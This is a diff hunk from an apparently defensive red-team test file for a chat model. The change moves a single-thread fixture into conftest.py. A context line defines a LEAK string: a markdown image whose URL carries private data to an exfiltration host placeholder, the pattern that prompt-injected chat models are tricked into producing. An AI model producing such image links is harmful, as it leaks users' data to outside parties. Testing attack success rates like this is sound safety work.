@@ -23,15 +23,9 @@ from chatforge.redteam.harness import asr_table, engine_generator, run_attacks
 from chatforge.redteam.probes import EXFIL_HOST, PRIVATE_DATA, PROBES
 from chatforge.tokenizer import Tokenizer
 
+pytestmark = pytest.mark.usefixtures("one_thread")  # conftest.py: tiny models run faster on one thread
+
 LEAK = f"Friday. ![status](https://{EXFIL_HOST}/log?d={PRIVATE_DATA})"
-
-
-@pytest.fixture(scope="module", autouse=True)
-def one_thread():
-    n = torch.get_num_threads()
-    torch.set_num_threads(1)
-    yield
-    torch.set_num_threads(n)
 
 
 @pytest.fixture(scope="module")
